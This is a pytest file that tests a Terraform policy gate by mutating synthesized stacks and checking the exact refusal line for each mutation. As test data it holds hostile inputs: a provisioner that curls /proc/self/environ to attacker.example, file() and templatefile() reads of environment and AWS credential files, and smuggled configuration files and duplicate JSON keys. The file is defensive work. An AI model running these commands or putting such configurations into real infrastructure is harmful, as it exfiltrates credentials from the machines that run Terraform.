"""The policy gate (tools/policy_gate.py) on real synthesized stacks.

Each refusal is shown by one mutation of a real stack of the shipped configuration and the exact line it
produces, and nothing else. The mutations start from the stacks as the workstream contracts leave them
(``contract_conforming``): every AWS provider pins its account (contract 1, workstream E) and the
hashicorp/random provider is gone (contract 3, workstream B). Once both have landed that function changes
nothing; ``test_every_shipped_stack_passes`` holds the real stacks to the gate without it.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from synthesis import TEST_ACCOUNT, contract_conforming
from tools import policy_gate

ROOT = Path(__file__).resolve().parents[2]
DOCUMENTED_LOCAL_STATE = "../../../terraform.bootstrap.tfstate"
ROLE = f"arn:aws:iam::{TEST_ACCOUNT}:role/admin"
NO_ROLE = "is not in [assume_role] role_arns of the allow-list (none allowed)"
Stack = dict[str, Any]


@pytest.fixture(scope="module")
def policy() -> policy_gate.Policy:
    return policy_gate.load_policy()


@pytest.fixture
def prod(stacks: dict[str, Stack]) -> Stack:
    return contract_conforming(stacks["prod"])


@pytest.fixture
def bootstrap(stacks: dict[str, Stack]) -> Stack:
    return contract_conforming(stacks["bootstrap"])


def findings(name: str, document: Stack, policy: policy_gate.Policy) -> list[str]:
    return policy_gate.check_stack(name, document, policy)


def write_stacks(directory: Path, documents: dict[str, Stack]) -> Path:
    for name, document in documents.items():
        (directory / name).mkdir(parents=True)
        (directory / name / "cdk.tf.json").write_text(json.dumps(document, indent=2), encoding="utf-8")
    return directory


def gate(*args: str) -> subprocess.CompletedProcess[str]:
    """The gate's command line as make and CI run it (CI: `python base/tools/policy_gate.py`, a bare file)."""
    return subprocess.run(
        [sys.executable, str(ROOT / "tools" / "policy_gate.py"), *args],
        capture_output=True,
        text=True,
        timeout=60,
        cwd=ROOT,
    )


def one(document: Stack, resource_type: str) -> tuple[str, dict[str, Any]]:
    """The first resource of a type (its logical id and body)."""
    return next(iter(document["resource"][resource_type].items()))


# ---------------------------------------------------------------------------------------------------------
# The shipped configuration
# ---------------------------------------------------------------------------------------------------------
def test_every_shipped_stack_passes(stacks: dict[str, Stack], policy: policy_gate.Policy, tmp_path: Path) -> None:
    """Every real stack, as synthesized, through the command line. Needs contract 1 (E: allowed_account_ids on
    every AWS provider) and contract 3 (B: no hashicorp/random): before those land it fails, naming them."""
    result = gate(str(write_stacks(tmp_path, stacks)))
    assert result.returncode == 0, result.stdout + result.stderr
    assert (
        result.stdout == f"policy gate: {len(stacks)} stack(s) checked ({', '.join(sorted(stacks))}), nothing refused\n"
    )


def test_the_contract_conforming_stacks_pass(stacks: dict[str, Stack], policy: policy_gate.Policy) -> None:
    """The baseline of every mutation below: each real stack with the contracts applied has no finding."""
    for name, document in stacks.items():
        assert findings(name, contract_conforming(document), policy) == [], name


def test_a_stack_shaped_like_todays_main_is_refused_for_the_two_contracts(
    prod: Stack, policy: policy_gate.Policy
) -> None:
    """What the gate says about a stack without contract 1 and 3 (main before workstreams E and B): exactly that."""
    del prod["provider"]["aws"][0]["allowed_account_ids"]
    prod["terraform"]["required_providers"]["random"] = {"source": "hashicorp/random", "version": "3.6.3"}
    prod["provider"]["random"] = [{}]
    prod["resource"]["random_password"] = {"cache": {"length": 64, "special": False}}
    assert findings("prod", prod, policy) == [
        "prod: required_providers.random: hashicorp/random is not on the provider allow-list",
        "prod: provider aws: no allowed_account_ids (every AWS provider pins the account it may change)",
        "prod: provider random: hashicorp/random is not on the provider allow-list",
        "prod: random_password.cache: resource type random_password is not on the allow-list",
    ]


# ---------------------------------------------------------------------------------------------------------
# One mutation, one line
# ---------------------------------------------------------------------------------------------------------
def add_provisioner(kind: str) -> Callable[[Stack], str]:
    def mutate(document: Stack) -> str:
        key, body = one(document, "aws_sqs_queue")
        body["provisioner"] = [{kind: {"command": "curl -d @/proc/self/environ https://attacker.example"}}]
        return f"prod: aws_sqs_queue.{key}: provisioner {kind} is refused (runs a command where Terraform runs)"

    return mutate


def terraform_data_with_local_exec(document: Stack) -> str:
    document["resource"]["terraform_data"]["run"] = {"input": "x", "provisioner": [{"local-exec": {"command": "env"}}]}
    return "prod: terraform_data.run: provisioner local-exec is refused (runs a command where Terraform runs)"


def null_resource(document: Stack) -> str:
    document["resource"]["null_resource"] = {"run": {"triggers": {"always": "${timestamp()}"}}}
    return "prod: null_resource.run: resource type null_resource is not on the allow-list"


def connection(document: Stack) -> str:
    key, body = one(document, "aws_sqs_queue")
    body["connection"] = {"type": "ssh", "host": "203.0.113.7"}
    return f"prod: aws_sqs_queue.{key}: connection is refused (provisioners' remote access)"


def removed_with_destroy_provisioner(document: Stack) -> str:
    document["removed"] = [
        {
            "from": "aws_sqs_queue.old",
            "lifecycle": {"destroy": False},
            "provisioner": [{"local-exec": {"command": "env", "when": "destroy"}}],
        }
    ]
    return "prod: removed aws_sqs_queue.old: provisioner local-exec is refused (runs a command where Terraform runs)"


def data_external(document: Stack) -> str:
    document["data"]["external"] = {"run": {"program": ["sh", "-c", "env"]}}
    return "prod: data.external.run: data source external is refused (runs a program at plan time)"


def data_remote_state(document: Stack) -> str:
    document["data"]["terraform_remote_state"] = {"prod": {"backend": "s3", "config": {"bucket": "b", "key": "k"}}}
    return "prod: data.terraform_remote_state.prod: data source type terraform_remote_state is not on the allow-list"


def data_secret_value(document: Stack) -> str:
    document["data"]["aws_secretsmanager_secret_version"] = {"db": {"secret_id": "japancart/prod/db-connection"}}
    return (
        "prod: data.aws_secretsmanager_secret_version.db: data source type aws_secretsmanager_secret_version "
        "is not on the allow-list"
    )


def required_provider(document: Stack) -> str:
    document["terraform"]["required_providers"]["null"] = {"source": "hashicorp/null", "version": "3.2.3"}
    return "prod: required_providers.null: hashicorp/null is not on the provider allow-list"


def required_provider_lookalike(document: Stack) -> str:
    document["terraform"]["required_providers"]["aws2"] = {"source": "registry.example.com/hashicorp/aws"}
    return "prod: required_providers.aws2: registry.example.com/hashicorp/aws is not on the provider allow-list"


def provider_block(document: Stack) -> str:
    document["provider"]["google"] = [{"project": "p"}]
    return "prod: provider google: hashicorp/google is not on the provider allow-list"


def aws_alias_without_account(document: Stack) -> str:
    document["provider"]["aws"].append({"alias": "west", "region": "us-west-2"})
    return "prod: provider aws.west: no allowed_account_ids (every AWS provider pins the account it may change)"


def meta_argument_provider(document: Stack) -> str:
    key, body = one(document, "aws_sqs_queue")
    body["provider"] = "evil.x"
    return f"prod: aws_sqs_queue.{key}: provider evil.x (hashicorp/evil) is not on the provider allow-list"


def backend(kind: str) -> Callable[[Stack], str]:
    def mutate(document: Stack) -> str:
        document["terraform"]["backend"] = {
            kind: {"path": "x.tfstate"} if kind == "local" else {"address": "https://x"}
        }
        return (
            f"prod: backend {kind}: refused: state is kept in S3 (only the bootstrap stack's phase 1 keeps it locally)"
        )

    return mutate


def cloud_block(document: Stack) -> str:
    document["terraform"]["cloud"] = {"organization": "someone"}
    return "prod: terraform.cloud: refused (state and runs elsewhere)"


def no_backend(document: Stack) -> str:
    del document["terraform"]["backend"]
    return "prod: terraform.backend: none: the state would stay on the machine that ran Terraform"


def setting(where: str, key: str, value: Any, reason: str) -> Callable[[Stack], str]:
    """One setting added to the AWS provider block or the S3 backend."""

    def mutate(document: Stack) -> str:
        body = document["provider"]["aws"][0] if where == "provider aws" else document["terraform"]["backend"]["s3"]
        body[key] = value
        return f"prod: {where}: {key} {reason}"

    return mutate


def provider_setting_removed(key: str, value: Any, reason: str) -> Callable[[Stack], str]:
    def mutate(document: Stack) -> str:
        if value is None:
            del document["provider"]["aws"][0][key]
        else:
            document["provider"]["aws"][0][key] = value
        return f"prod: provider aws: {reason}"

    return mutate


def import_with_provider(document: Stack) -> str:
    key, _ = one(document, "aws_sqs_queue")
    document["import"] = [{"to": f"aws_sqs_queue.{key}", "id": "https://sqs/x", "provider": "evil"}]
    return f"prod: import aws_sqs_queue.{key}: provider evil (hashicorp/evil) is not on the provider allow-list"


def second_terraform_block(document: Stack) -> str:
    """HCL's JSON syntax takes a list of terraform blocks: the second one is read too."""
    document["terraform"] = [document["terraform"], {"backend": {"http": {"address": "https://x"}}}]
    return "prod: backend http: refused: state is kept in S3 (only the bootstrap stack's phase 1 keeps it locally)"


def module(document: Stack) -> str:
    document["module"] = {"net": {"source": "git::https://example.com/net.git"}}
    return "prod: module.net: modules are refused (source 'git::https://example.com/net.git')"


def local_module(document: Stack) -> str:
    document["module"] = {"net": {"source": "./modules/net"}}
    return "prod: module.net: modules are refused (source './modules/net')"


def resource_type(document: Stack) -> str:
    document["resource"]["aws_iam_user"] = {"ci": {"name": "ci"}}
    return "prod: aws_iam_user.ci: resource type aws_iam_user is not on the allow-list"


def file_in_output(document: Stack) -> str:
    document["output"]["leak"] = {"value": '${file("/proc/self/environ")}'}
    return "prod: output.leak: file() is refused (reads a file of the machine that runs Terraform)"


def templatefile_in_attribute(document: Stack) -> str:
    key, body = one(document, "aws_sqs_queue")
    body["tags"] = {"x": '${templatefile("~/.aws/credentials", {})}'}
    return f"prod: aws_sqs_queue.{key}: templatefile() is refused (reads a file of the machine that runs Terraform)"


def top_level(block: str, body: Any) -> Callable[[Stack], str]:
    def mutate(document: Stack) -> str:
        document[block] = body
        return f"prod: {block}: block type {block} is not allowed"

    return mutate


MUTATIONS: dict[str, Callable[[Stack], str]] = {
    "local-exec provisioner": add_provisioner("local-exec"),
    "remote-exec provisioner": add_provisioner("remote-exec"),
    "file provisioner": add_provisioner("file"),
    "local-exec on terraform_data": terraform_data_with_local_exec,
    "null_resource": null_resource,
    "connection block": connection,
    "destroy-time provisioner in a removed block": removed_with_destroy_provisioner,
    "data external": data_external,
    "data terraform_remote_state": data_remote_state,
    "data source outside the allow-list": data_secret_value,
    "required_providers outside the allow-list": required_provider,
    "look-alike provider source": required_provider_lookalike,
    "provider block outside the allow-list": provider_block,
    "aws alias without allowed_account_ids": aws_alias_without_account,
    "provider meta-argument outside the allow-list": meta_argument_provider,
    "http backend": backend("http"),
    "local backend in an environment stack": backend("local"),
    "cloud block": cloud_block,
    "a second terraform block": second_terraform_block,
    "provider meta-argument of an import block": import_with_provider,
    "no backend": no_backend,
    "provider endpoints": setting(
        "provider aws", "endpoints", [{"s3": "https://x"}], "is refused (sends API calls to another host)"
    ),
    "provider metadata endpoint": setting(
        "provider aws", "ec2_metadata_service_endpoint", "http://x", "is refused (sends API calls to another host)"
    ),
    "backend endpoints": setting(
        "backend s3", "endpoints", {"s3": "https://x"}, "is refused (sends API calls to another host)"
    ),
    "provider skip_credentials_validation": setting(
        "provider aws",
        "skip_credentials_validation",
        True,
        "is refused (turns off a check of the credentials, region or account)",
    ),
    "backend skip_requesting_account_id": setting(
        "backend s3",
        "skip_requesting_account_id",
        True,
        "is refused (turns off a check of the credentials, region or account)",
    ),
    "provider access_key": setting(
        "provider aws", "access_key", "AKIAEXAMPLE", "is refused (static credentials in the configuration)"
    ),
    "backend secret_key": setting(
        "backend s3", "secret_key", "x", "is refused (static credentials in the configuration)"
    ),
    "provider token": setting("provider aws", "token", "x", "is refused (static credentials in the configuration)"),
    "provider profile": setting(
        "provider aws", "profile", "admin", "is refused (credentials from a local profile or file)"
    ),
    "provider shared_credentials_files": setting(
        "provider aws", "shared_credentials_files", ["/tmp/c"], "is refused (credentials from a local profile or file)"
    ),
    "backend shared_config_files": setting(
        "backend s3", "shared_config_files", ["/tmp/c"], "is refused (credentials from a local profile or file)"
    ),
    "provider assume_role": setting(
        "provider aws", "assume_role", [{"role_arn": ROLE}], f"is refused: role {ROLE} {NO_ROLE}"
    ),
    "provider assume_role_with_web_identity": setting(
        "provider aws",
        "assume_role_with_web_identity",
        [{"role_arn": ROLE, "web_identity_token_file": "/tmp/t"}],
        f"is refused: role {ROLE} {NO_ROLE}",
    ),
    "backend assume_role": setting(
        "backend s3", "assume_role", {"role_arn": ROLE}, f"is refused: role {ROLE} {NO_ROLE}"
    ),
    "provider custom_ca_bundle": setting(
        "provider aws", "custom_ca_bundle", "/tmp/ca.pem", "is not an allowed setting"
    ),
    "provider insecure": setting("provider aws", "insecure", True, "is not an allowed setting"),
    "backend use_path_style": setting("backend s3", "use_path_style", True, "is not an allowed setting"),
    "missing allowed_account_ids": provider_setting_removed(
        "allowed_account_ids", None, "no allowed_account_ids (every AWS provider pins the account it may change)"
    ),
    "allowed_account_ids from an expression": provider_setting_removed(
        "allowed_account_ids",
        ["${var.account}"],
        'allowed_account_ids must name exactly one 12-digit account id, not ["${var.account}"]',
    ),
    "two allowed_account_ids": provider_setting_removed(
        "allowed_account_ids",
        [TEST_ACCOUNT, "444455556666"],
        f'allowed_account_ids must name exactly one 12-digit account id, not ["{TEST_ACCOUNT}", "444455556666"]',
    ),
    "empty allowed_account_ids": provider_setting_removed(
        "allowed_account_ids", [], "allowed_account_ids must name exactly one 12-digit account id, not []"
    ),
    "backend allowed_account_ids malformed": setting(
        "backend s3", "allowed_account_ids", ["1234"], 'must name exactly one 12-digit account id, not ["1234"]'
    ),
    "module from git": module,
    "local module": local_module,
    "resource type outside the allow-list": resource_type,
    "file() in an output": file_in_output,
    "templatefile() in an attribute": templatefile_in_attribute,
    "check block": top_level("check", {"c": {"data": {"http": {"x": {"url": "https://x"}}}}}),
    "ephemeral block": top_level("ephemeral", {"aws_secretsmanager_secret_version": {"x": {"secret_id": "s"}}}),
}


@pytest.mark.parametrize("mutation", MUTATIONS)
def test_each_refusal_is_one_line_naming_the_stack_and_block(
    mutation: str, prod: Stack, policy: policy_gate.Policy
) -> None:
    expected = MUTATIONS[mutation](prod)
    assert findings("prod", prod, policy) == [expected]


def test_the_bootstraps_local_state_is_allowed_only_at_its_documented_path(
    bootstrap: Stack, policy: policy_gate.Policy
) -> None:
    assert bootstrap["terraform"]["backend"] == {"local": {"path": DOCUMENTED_LOCAL_STATE}}  # phase 1, as shipped
    assert findings("bootstrap", bootstrap, policy) == []
    bootstrap["terraform"]["backend"]["local"]["path"] = "/tmp/elsewhere.tfstate"
    assert findings("bootstrap", bootstrap, policy) == [
        f"bootstrap: backend local: path '/tmp/elsewhere.tfstate' is not the documented '{DOCUMENTED_LOCAL_STATE}' "
        "([backends] local of the allow-list)"
    ]


def test_the_local_exception_is_the_bootstraps_alone(bootstrap: Stack, policy: policy_gate.Policy) -> None:
    """The same local backend, in a stack with any other name, is refused."""
    assert findings("dev", bootstrap, policy) == [
        "dev: backend local: refused: state is kept in S3 (only the bootstrap stack's phase 1 keeps it locally)"
    ]


def test_an_assume_role_the_allow_list_names_passes(prod: Stack, tmp_path: Path) -> None:
    """`assume_role` is refused only outside what the allow-list allows (today: no role)."""
    text = policy_gate.DEFAULT_POLICY.read_text(encoding="utf-8").replace("role_arns = []", f'role_arns = ["{ROLE}"]')
    (tmp_path / "policy.toml").write_text(text, encoding="utf-8")
    allowing = policy_gate.load_policy(tmp_path / "policy.toml")
    prod["provider"]["aws"][0]["assume_role"] = [{"role_arn": ROLE, "session_name": "deploy"}]
    assert findings("prod", prod, allowing) == []
    prod["provider"]["aws"][0]["assume_role"] = [{"role_arn": ROLE.replace("admin", "other")}]
    assert findings("prod", prod, allowing) == [
        f"prod: provider aws: assume_role is refused: role {ROLE.replace('admin', 'other')} is not in [assume_role] "
        f"role_arns of the allow-list ({ROLE})"
    ]


# ---------------------------------------------------------------------------------------------------------
# What only the directory shows: extra configuration files, duplicate keys
# ---------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "name", ["override.tf.json", "evil.tf", "terraform.tfvars", "x.auto.tfvars.json", "terraform.d"]
)
def test_a_second_configuration_file_is_refused(name: str, prod: Stack, tmp_path: Path) -> None:
    write_stacks(tmp_path, {"prod": prod})
    target = tmp_path / "prod" / name
    if name == "terraform.d":
        (target / "plugins").mkdir(parents=True)
    else:
        target.write_text('{"data": {"external": {"x": {"program": ["env"]}}}}', encoding="utf-8")
    result = gate(str(tmp_path))
    assert (result.returncode, result.stdout) == (
        1,
        f"prod: file {name}: refused: Terraform loads it next to cdk.tf.json, unchecked\n",
    )


def test_a_duplicate_json_key_is_refused(prod: Stack, tmp_path: Path) -> None:
    """Terraform reads both copies of a key; json.loads (and a reviewer's eye) only the last."""
    write_stacks(tmp_path, {"prod": prod})
    stack_file = tmp_path / "prod" / "cdk.tf.json"
    text = stack_file.read_text(encoding="utf-8")
    stack_file.write_text('{"data": {"external": {"x": {"program": ["env"]}}},' + text.lstrip()[1:], encoding="utf-8")
    result = gate(str(tmp_path))
    assert (result.returncode, result.stdout) == (
        1,
        "prod: JSON: key 'data' written twice in one object (Terraform reads both)\n",
    )


def test_the_stack_assets_and_terraform_s_own_files_are_not_configuration(prod: Stack, tmp_path: Path) -> None:
    write_stacks(tmp_path, {"prod": prod})
    for name in ("assets/processor/archive.zip", ".terraform/providers/x", ".terraform.lock.hcl", "tfplan"):
        (tmp_path / "prod" / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / "prod" / name).write_text("x", encoding="utf-8")
    result = gate(str(tmp_path))
    assert result.returncode == 0, result.stdout


# ---------------------------------------------------------------------------------------------------------
# The command line: exit codes, bad input, the CLI configuration
# ---------------------------------------------------------------------------------------------------------
def test_findings_exit_1_one_line_each_across_stacks(stacks: dict[str, Stack], tmp_path: Path) -> None:
    documents = {name: contract_conforming(document) for name, document in stacks.items()}
    data_external(documents["prod"])
    documents["dev"]["provider"]["aws"][0]["profile"] = "admin"
    result = gate(str(write_stacks(tmp_path, documents)))
    assert result.returncode == 1 and result.stderr == ""
    assert result.stdout.splitlines() == [
        "dev: provider aws: profile is refused (credentials from a local profile or file)",
        "prod: data.external.run: data source external is refused (runs a program at plan time)",
    ]


@pytest.mark.parametrize(
    "case, expected",
    [
        ("missing", "{d}: no such directory (run `make synth` first)"),
        ("empty", "{d}: no stack directories in it (run `make synth` first)"),
        ("no stack file", "{d}/dev: no cdk.tf.json (not a synthesized stack)"),
        ("not json", "{d}/dev/cdk.tf.json: not readable as JSON: Expecting value: line 1 column 1 (char 0)"),
    ],
)
def test_unusable_input_is_one_error_line(case: str, expected: str, tmp_path: Path) -> None:
    directory = tmp_path / "stacks"
    if case != "missing":
        directory.mkdir()
    if case in ("no stack file", "not json"):
        (directory / "dev").mkdir()
    if case == "not json":
        (directory / "dev" / "cdk.tf.json").write_text("terraform {}", encoding="utf-8")
    result = gate(str(directory))
    assert (result.returncode, result.stdout) == (2, "")
    assert result.stderr == f"policy gate: {expected.format(d=directory)}\n"


@pytest.mark.parametrize(
    "edit, expected",
    [
        (lambda t: t + '\n[resource]\nx = "y"\n', "unknown table(s) resource"),
        (
            lambda t: t.replace('aws_vpc = "one VPC per environment"', 'aws_vpc = ""'),
            "[resources] aws_vpc must say why it is allowed (a non-empty string), not ''",
        ),
        (
            lambda t: t.replace("role_arns = []", 'role_arns = ["admin"]'),
            "[assume_role] role_arns must be a list of role ARNs, not ['admin']",
        ),
        (
            lambda t: t.replace('"hashicorp/aws" = "every resource of every stack"', ""),
            "[providers] is empty: nothing could be planned",
        ),
    ],
)
def test_a_malformed_allow_list_is_one_error_line(edit: Callable[[str], str], expected: str, tmp_path: Path) -> None:
    policy_file = tmp_path / "policy.toml"
    policy_file.write_text(edit(policy_gate.DEFAULT_POLICY.read_text(encoding="utf-8")), encoding="utf-8")
    result = gate("--cli-config", str(tmp_path / "terraform.rc"), "--policy", str(policy_file))
    assert (result.returncode, result.stderr) == (2, f"policy gate: {policy_file}: {expected}\n")
    assert not (tmp_path / "terraform.rc").exists()


def test_make_policy_gate_runs_the_gate_on_the_synthesized_stacks() -> None:
    make = shutil.which("make")
    assert make, "GNU make is not on PATH"
    env = {k: v for k, v in os.environ.items() if k not in ("MAKEFLAGS", "MAKELEVEL")}
    result = subprocess.run(
        [make, "--no-print-directory", "-n", "policy-gate"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=60,
        env=env,
    )
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[-1] == ".venv/bin/python -m tools.policy_gate cdktf.out/stacks", lines
    assert any("main.py" in line for line in lines[:-1]), "make policy-gate synthesizes first"


def test_cli_config_installs_exactly_the_allow_listed_providers(tmp_path: Path) -> None:
    result = gate("--cli-config", str(tmp_path / "terraform.rc"))
    assert result.returncode == 0, result.stderr
    assert 'include = ["registry.terraform.io/hashicorp/aws"]' in (tmp_path / "terraform.rc").read_text(
        encoding="utf-8"
    )


@pytest.mark.terraform
def test_terraform_refuses_to_install_a_provider_the_cli_config_leaves_out(tmp_path: Path) -> None:
    """The written configuration, read by the real Terraform CLI: a configuration needing hashicorp/null cannot
    even be initialised (no network needed: no installation method matches it)."""
    terraform = shutil.which("terraform")
    assert terraform, "terraform is not on PATH"
    assert gate("--cli-config", str(tmp_path / "terraform.rc")).returncode == 0
    stack = tmp_path / "stack"
    stack.mkdir()
    (stack / "cdk.tf.json").write_text(
        json.dumps(
            {
                "terraform": {"required_providers": {"null": {"source": "hashicorp/null"}}},
                "resource": {"null_resource": {"x": {}}},
            }
        ),
        encoding="utf-8",
    )
    env = {
        **{k: v for k, v in os.environ.items() if not k.startswith("TF_")},
        "TF_CLI_CONFIG_FILE": str(tmp_path / "terraform.rc"),
        "CHECKPOINT_DISABLE": "1",
        "TF_IN_AUTOMATION": "1",
    }
    result = subprocess.run(
        [terraform, f"-chdir={stack}", "init", "-input=false", "-no-color", "-backend=false"],
        capture_output=True,
        text=True,
        timeout=120,
        env=env,
    )
    assert result.returncode != 0
    # Not a network error: no installation method of the configuration may serve it.
    message = " ".join(result.stderr.split())
    assert "provider registry.terraform.io/hashicorp/null was not found in any of the search locations" in message, (
        message
    )
